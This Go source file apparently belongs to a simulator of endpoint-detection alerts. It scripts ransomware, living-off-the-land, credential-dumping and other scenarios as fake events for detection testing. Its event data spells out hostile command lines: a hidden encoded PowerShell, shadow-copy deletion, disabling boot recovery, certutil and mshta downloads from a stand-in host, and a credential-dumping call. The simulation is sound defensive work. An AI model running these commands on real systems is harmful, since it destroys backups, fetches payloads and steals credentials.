package ersim

import (
	"context"
	"errors"
	"fmt"
	"math/rand/v2"
	"slices"
	"strconv"
	"time"
)

// scenario is a documented list of steps.
type scenario struct {
	name    string
	summary string
	steps   []step
}

// step is what happens after a wait, in words and in deed.
type step struct {
	wait time.Duration
	note string
	do   func(*play)
}

// play is one performance of a scenario. Its hosts and times follow from the seed
// and from how many plays were before it.
type play struct {
	server  *Server
	number  int64
	random  *rand.Rand
	host    *host // the scene
	other   *host
	shell   *Process
	locker  *Process
	stopped bool          // nobody waits for it any more; guarded by Server.mu
	done    chan struct{} // closed after the last step
}

const ms = time.Millisecond

var scenarios = []scenario{
	{"ransomware", "A document starts a shell on a workstation, shadow copies go, files are renamed, the file server follows.", []step{
		{0, "Word starts an encoded PowerShell: alert Office starts a shell", (*play).officeShell},
		{300 * ms, "PowerShell writes and starts simlock.exe, which Defender would find; no alert", (*play).dropLocker},
		{300 * ms, "simlock.exe runs vssadmin delete shadows: alert Shadow copies deleted", (*play).deleteShadows},
		{200 * ms, "simlock.exe runs bcdedit: alert Boot recovery disabled", (*play).disableRecovery},
		{400 * ms, "twenty files are renamed to .locked: one alert Mass file rename with the others aggregated", (*play).renameFiles},
		{3 * time.Second, "the same on the file server, unless the workstation has been contained or simlock.exe stopped", (*play).spread},
	}},
	{"lotl", "Living off the land: mshta, PowerShell and certutil fetch and run things with tools that are there.", []step{
		{0, "explorer starts mshta with an address: alert Mshta runs a remote script", (*play).mshta},
		{300 * ms, "mshta starts an encoded PowerShell: alert Encoded PowerShell", (*play).encodedShell},
		{300 * ms, "PowerShell looks up a rare name: alert Rare domain looked up", (*play).rareDomain},
		{200 * ms, "PowerShell connects out: alert Script host connects out", (*play).connectOut},
		{300 * ms, "certutil downloads a file: alert Certutil download", (*play).certutil},
		{300 * ms, "the file registers itself for logon: alert Run key written", (*play).runKey},
		{200 * ms, "it starts a thread in explorer: alert Remote thread created", (*play).remoteThread},
		{200 * ms, "explorer loads an unsigned library: alert Unsigned library loaded", (*play).imageLoad},
	}},
	{"ioc", "Three hosts talk to an address on the IOC list, and VirusTotal knows a file on one of them.", []step{
		{0, "the first host connects to 203.0.113.66: alert of source ioc", (*play).iocHit},
		{200 * ms, "the second host does", (*play).iocHit},
		{200 * ms, "the third host does", (*play).iocHit},
		{300 * ms, "a downloaded file is known to VirusTotal: alert of source virustotal", (*play).virusTotal},
	}},
	{"noise", "Forty harmless alerts of low severity all over the fleet.", []step{
		{0, "ten logons and installations", (*play).noise},
		{250 * ms, "ten more", (*play).noise},
		{250 * ms, "ten more", (*play).noise},
		{250 * ms, "ten more", (*play).noise},
	}},
	{"failures", "Credential dumping on hosts where nothing goes as it should.", []step{
		{0, "alert on a host that goes offline for five seconds at that moment", (*play).offlineHost},
		{200 * ms, "alert on a host whose agent refuses actions", (*play).disabledHost},
		{200 * ms, "alert on a host whose next command fails", (*play).failingHost},
		{200 * ms, "alert about a process that has ended already", (*play).endedProcess},
	}},
	{"persistence", "A dropped program settles on a workstation, and so do programs that may.", []step{
		{0, "OneDrive registers itself for logon: alert Run key written, which is noise", (*play).knownRunKey},
		{200 * ms, "updater.exe does: alert Run key written", (*play).settleAtLogon},
		{200 * ms, "an installer makes a service: alert Service installed, which is noise", (*play).knownService},
		{200 * ms, "updater.exe makes a service of itself: alert Service installed", (*play).settleAsService},
		{200 * ms, "an installer plans a task: alert Scheduled task created, which is noise", (*play).knownTask},
		{200 * ms, "updater.exe plans a task: alert Scheduled task created", (*play).settleAsTask},
	}},
	{"credentials", "Passwords are guessed from outside, and read from the memory of a workstation.", []step{
		{0, "Defender opens lsass: alert Memory of lsass opened, which is noise", (*play).defenderOpensLsass},
		{200 * ms, "reader.exe opens lsass: alert Memory of lsass opened", (*play).lsassOpened},
		{200 * ms, "three logons from the office fail on the file server: alert Logon failed, which is noise", (*play).mistypedLogons},
		{200 * ms, "twelve logons from 203.0.113.66 fail on a workstation: one alert Logon failed with the others aggregated",
			(*play).guessedLogons},
		{200 * ms, "one logon from 198.51.100.23 fails on each of five hosts: five alerts Logon failed", (*play).sprayedLogons},
	}},
	{"webshell", "A page is uploaded to a web server and runs commands there.", []step{
		{0, "the web server compiles a page: alert Web server starts a program, which is noise", (*play).compilePage},
		{200 * ms, "img.aspx appears in the folder of uploads; no alert", (*play).uploadPage},
		{200 * ms, "the web server starts cmd.exe: alert Web server starts a program", (*play).webShell},
	}},
	{"defender", "Windows Defender finds something, and on another host its signatures are old.", []step{
		{0, "a setting of Defender changes: alert Event of Defender, which is noise", (*play).defenderSetting},
		{200 * ms, "Defender moves a download into quarantine: alert Event of Defender", (*play).defenderFinds},
		{200 * ms, "signatures are up to date on one host: alert State of antivirus, which is noise", (*play).freshSignatures},
		{200 * ms, "they are not on another: alert State of antivirus", (*play).oldSignatures},
	}},
	{"exfiltration", "Somebody copies documents to a stick.", []step{
		{0, "two files are written to the stick of a colleague: alert Files on another drive, which is noise", (*play).copyTwo},
		{200 * ms, "twenty-five are: one alert Files on another drive with the others aggregated", (*play).copyMany},
	}},
	{"silence", "The log of a manager's workstation is cleared, and the workstation goes away.", []step{
		{0, "the workstation gets the tag vip", (*play).tagManager},
		{200 * ms, "the security log is cleared: alert Event log cleared; the host goes offline for half a minute at that moment", (*play).clearLog},
	}},
}

// Scenarios are the names that Play knows.
func (s *Server) Scenarios() []string {
	names := make([]string, 0, len(scenarios))
	for _, one := range scenarios {
		names = append(names, one.name)
	}
	return names
}

// DescribeScenario is what a scenario is about, in a sentence, and its steps with
// their waits. Both are empty for a name that Play does not know.
func (s *Server) DescribeScenario(name string) (summary string, steps []string) {
	for _, one := range scenarios {
		if one.name != name {
			continue
		}
		for _, st := range one.steps {
			steps = append(steps, fmt.Sprintf("+%v %s", st.wait, st.note))
		}
		return one.summary, steps
	}
	return "", nil
}

func scenarioList() []obj {
	list := []obj{}
	for _, one := range scenarios {
		summary, steps := (*Server)(nil).DescribeScenario(one.name)
		list = append(list, obj{"name": one.name, "summary": summary, "steps": steps})
	}
	return list
}

// Play performs a scenario and returns after its last step. Steps happen while Run
// runs, or by Tick. When ctx ends first, the steps that are left do not happen.
func (s *Server) Play(ctx context.Context, name string) error {
	p, err := s.begins(name)
	if err != nil {
		return err
	}
	return p.wait(ctx)
}

func (s *Server) begins(name string) (*play, error) {
	at := slices.IndexFunc(scenarios, func(one scenario) bool { return one.name == name })
	if at < 0 {
		return nil, fmt.Errorf("ersim: unknown scenario %q; there are %v", name, s.Scenarios())
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if len(s.hosts) == 0 {
		return nil, errors.New("ersim: every host has been deleted")
	}
	s.lastPlay++
	p := &play{server: s, number: s.lastPlay, random: s.random("play-"+name, s.lastPlay), done: make(chan struct{})}
	p.host = p.pick("workstation")
	p.other = p.pick("file-server")
	p.next(scenarios[at].steps)
	return p, nil
}

// next plans the first of the steps.
func (p *play) next(steps []step) {
	if len(steps) == 0 {
		close(p.done)
		return
	}
	p.server.after(steps[0].wait, func() {
		if p.stopped {
			return
		}
		if len(p.server.hosts) == 0 {
			close(p.done) // somebody has deleted every host meanwhile
			return
		}
		steps[0].do(p)
		p.next(steps[1:])
	})
}

func (p *play) wait(ctx context.Context) error {
	select {
	case <-p.done:
		return nil
	case <-ctx.Done():
		p.server.mu.Lock()
		defer p.server.mu.Unlock()
		p.stopped = true
		return context.Cause(ctx)
	}
}

// pick is a Windows host with that tag, else any Windows host, else any host.
func (p *play) pick(tag string) *host {
	var tagged, windows []*host
	for _, h := range p.server.hosts {
		if h.windows() {
			windows = append(windows, h)
			if slices.Contains(h.tags, tag) {
				tagged = append(tagged, h)
			}
		}
	}
	for _, choice := range [][]*host{tagged, windows} {
		if len(choice) > 0 {
			return choice[p.random.IntN(len(choice))]
		}
	}
	return p.server.hosts[p.random.IntN(len(p.server.hosts))]
}

func (p *play) at() time.Time { return p.server.now().Truncate(time.Microsecond) }

// raise reports an event of a host.
func (p *play) raise(h *host, ruleName, threat string, columns map[string]string) {
	p.server.raise(AlertSpec{Host: h.identifier, Rule: ruleName, Columns: columns, Threat: threat})
}

// quiet is an event that no rule minds.
func (p *play) quiet(h *host, threat string, columns map[string]string) {
	s := p.server
	h.realise(AlertSpec{Columns: columns, Threat: threat}, p.at())
	s.lastEvent++
	h.background = append(h.background, event{s.lastEvent, s.queryName(h, columns), encodeJSON(columns), p.at()})
}

// start is the start of a process with the event that belongs to it.
func (p *play) start(h *host, name, cmdline string, parent *Process) (*Process, map[string]string) {
	at := p.at()
	one := h.newProcess(name, cmdline, parent, int64(p.random.IntN(15_000)), at)
	return one, processColumns(h, one, at)
}

const (
	powershell = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	encoded    = powershell + " -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"
	lockerPath = `C:\Users\Public\simlock.exe`
	badAddress = "203.0.113.66"
)

func (p *play) officeShell() {
	var columns map[string]string
	p.shell, columns = p.start(p.host, powershell, encoded, p.host.running("WINWORD.EXE"))
	p.raise(p.host, "Office starts a shell", "", columns)
}

func (p *play) dropLocker() {
	p.locker = p.drop(p.host, p.shell)
}

// drop writes the locker and starts it.
func (p *play) drop(h *host, by *Process) *Process {
	p.quiet(h, "Ransom:Win32/Simlock.A", p.fileColumns(h, by, actFileWrite, lockerPath))
	locker, columns := p.start(h, lockerPath, lockerPath+" --quiet", by)
	p.quiet(h, "Ransom:Win32/Simlock.A", columns)
	return locker
}

func (p *play) fileColumns(h *host, by *Process, action, target string) map[string]string {
	md5Hex, _, sha256Hex := (&file{content: func() []byte { return sampleContent(target) }}).hashes()
	return eventColumns(h, by, action, p.at(), map[string]string{
		"target_path": target, "process_name": by.Path, "md5": md5Hex, "sha256": sha256Hex,
	})
}

func (p *play) deleteShadows() {
	const vssadmin = `C:\Windows\System32\vssadmin.exe`
	_, columns := p.start(p.host, vssadmin, vssadmin+" delete shadows /all /quiet", p.locker)
	p.raise(p.host, "Shadow copies deleted", "", columns)
}

func (p *play) disableRecovery() {
	const bcdedit = `C:\Windows\System32\bcdedit.exe`
	_, columns := p.start(p.host, bcdedit, bcdedit+" /set {default} recoveryenabled no", p.locker)
	p.raise(p.host, "Boot recovery disabled", "", columns)
}

func (p *play) renameFiles() {
	for i := range 20 {
		name := fmt.Sprintf(`C:\Users\Public\Documents\report-%02d.docx.locked`, i+1)
		p.raise(p.host, "Mass file rename", "", p.fileColumns(p.host, p.locker, actFileRename, name))
	}
}

func (p *play) spread() {
	if len(p.host.firewall) > 0 || !p.host.taken(p.locker.PID) || p.other == p.host {
		return
	}
	p.host = p.other
	p.locker = p.drop(p.host, p.host.running("svchost.exe"))
	p.deleteShadows()
}

func (p *play) mshta() {
	const mshta = `C:\Windows\System32\mshta.exe`
	var columns map[string]string
	p.shell, columns = p.start(p.host, mshta, "mshta http://files.example.net/invoice.hta", p.host.running("explorer.exe"))
	p.raise(p.host, "Mshta runs a remote script", "", columns)
}

func (p *play) encodedShell() {
	var columns map[string]string
	p.shell, columns = p.start(p.host, powershell, encoded, p.shell)
	p.raise(p.host, "Encoded PowerShell", "", columns)
}

func (p *play) rareDomain() {
	p.raise(p.host, "Rare domain looked up", "", eventColumns(p.host, p.shell, actDNS, p.at(), map[string]string{
		"domain_name": "cdn-7f3a.example.net", "resolved_ip": badAddress, "process_name": powershell, "request_type": "1",
	}))
}

func (p *play) connectOut() {
	p.raise(p.host, "Script host connects out", "", eventColumns(p.host, p.shell, actSocket, p.at(), map[string]string{
		"process_name": powershell, "family": "2", "protocol": "6", "local_address": p.host.ip, "local_port": "49812",
		"remote_address": badAddress, "remote_port": "443",
	}))
}

func (p *play) certutil() {
	const certutil = `C:\Windows\System32\certutil.exe`
	one, columns := p.start(p.host, certutil, certutil+" -urlcache -split -f http://files.example.net/a.txt "+lotlPath, p.shell)
	p.quiet(p.host, "Trojan:Win32/Simload.A", p.fileColumns(p.host, one, actFileWrite, lotlPath))
	p.raise(p.host, "Certutil download", "", columns)
	p.locker, columns = p.start(p.host, lotlPath, lotlPath, p.shell)
	p.quiet(p.host, "Trojan:Win32/Simload.A", columns)
}

const lotlPath = `C:\Users\Public\updater.exe`

func (p *play) runKey() {
	p.raise(p.host, "Run key written", "", eventColumns(p.host, p.locker, actRegistry, p.at(), map[string]string{
		"process_name": lotlPath, "target_name": `HKEY_CURRENT_USER\Software\Microsoft\Windows\CurrentVersion\Run\Updater`,
		"value_data": lotlPath, "value_type": "REG_SZ",
	}))
}

func (p *play) remoteThread() {
	target := p.host.processes[0]
	if explorer := p.host.running("explorer.exe"); explorer != nil {
		target = explorer
	}
	p.raise(p.host, "Remote thread created", "", eventColumns(p.host, p.locker, actRemoteThread, p.at(), map[string]string{
		"src_path": lotlPath, "src_pid": strconv.FormatInt(p.locker.PID, 10), "target_path": target.Path,
		"target_pid": strconv.FormatInt(target.PID, 10), "function_name": "LoadLibraryA", "module_name": `C:\Windows\System32\kernel32.dll`,
	}))
}

func (p *play) imageLoad() {
	p.raise(p.host, "Unsigned library loaded", "", eventColumns(p.host, p.locker, actImageLoad, p.at(), map[string]string{
		"image_path": `C:\Users\Public\helper.dll`, "process_name": lotlPath, "sign_info": "Unsigned", "trust_info": "0",
		"num_of_certs": "0", "image_size": "57344",
	}))
}

func (p *play) iocHit() {
	s := p.server
	h := s.hosts[(p.random.IntN(len(s.hosts))+int(s.lastAlert))%len(s.hosts)]
	program := h.processes[len(h.processes)-1]
	s.raise(AlertSpec{Host: h.identifier, Source: "ioc", Severity: "HIGH", Columns: eventColumns(h, program, actSocket, p.at(), map[string]string{
		"path": program.Path, "family": "2", "protocol": "6", "local_address": h.ip, "local_port": "50112",
		"remote_address": badAddress, "remote_port": "8443",
	})})
	p.host = h
}

func (p *play) virusTotal() {
	h, name := p.host, "/tmp/invoice.bin"
	if h.windows() {
		name = `C:\Users\Public\Downloads\invoice.exe`
	}
	p.server.raise(AlertSpec{
		Host: h.identifier, Source: "virustotal", Severity: "LOW", Threat: "Trojan:Win32/Simload.B",
		Columns: p.fileColumns(h, h.processes[0], actFileWrite, name),
		Intel:   map[string]any{"total": 70, "positives": 58, "detections": map[string]string{"eset": "Win32/Simload.B"}},
	})
}

func (p *play) noise() {
	s := p.server
	for range 10 {
		h := s.hosts[p.random.IntN(len(s.hosts))]
		program := h.processes[p.random.IntN(len(h.processes))]
		spec := AlertSpec{Host: h.identifier, Rule: "Administrator logon", Separate: true, Detached: true}
		spec.Columns = eventColumns(h, program, "LOGON", p.at(), map[string]string{"username": h.role.user, "logon_type": "2"})
		if p.random.IntN(2) == 0 {
			spec.Rule = "Software installed"
			spec.Columns = eventColumns(h, program, actProcess, p.at(), map[string]string{
				"path": program.Path, "cmdline": "msiexec /i update.msi /qn", "owner_uid": h.role.user,
			})
		}
		s.raise(spec)
	}
}

// dump is credential dumping on a Windows host; it returns the host.
func (p *play) dump(h *host, ended bool) {
	const mimikatz = `C:\Users\Public\m.exe`
	_, columns := p.start(h, mimikatz, mimikatz+" sekurlsa::logonpasswords", h.running("explorer.exe"))
	p.server.raise(AlertSpec{
		Host: h.identifier, Rule: "Credential dumping", Columns: columns, Threat: "HackTool:Win32/Simikatz", Separate: true, Detached: ended,
	})
}

func (p *play) offlineHost() {
	p.dump(p.host, false)
	h, s := p.host, p.server
	s.setOnline(h, false)
	s.after(5*time.Second, func() { s.setOnline(h, true) })
}

func (p *play) disabledHost() {
	h := p.another()
	h.response = false
	p.dump(h, false)
}

func (p *play) failingHost() {
	h := p.another()
	p.server.faults = append(p.server.faults, &Fault{Kind: CommandFails, Host: h.identifier, Count: 1, Message: "ACCESS_DENIED"})
	p.dump(h, false)
}

func (p *play) endedProcess() { p.dump(p.another(), true) }

// another is the next Windows host in turn.
func (p *play) another() *host {
	s := p.server
	for i := range s.hosts {
		h := s.hosts[(int(p.host.id)+i)%len(s.hosts)]
		if h.windows() {
			p.host = h
			break
		}
	}
	return p.host
}
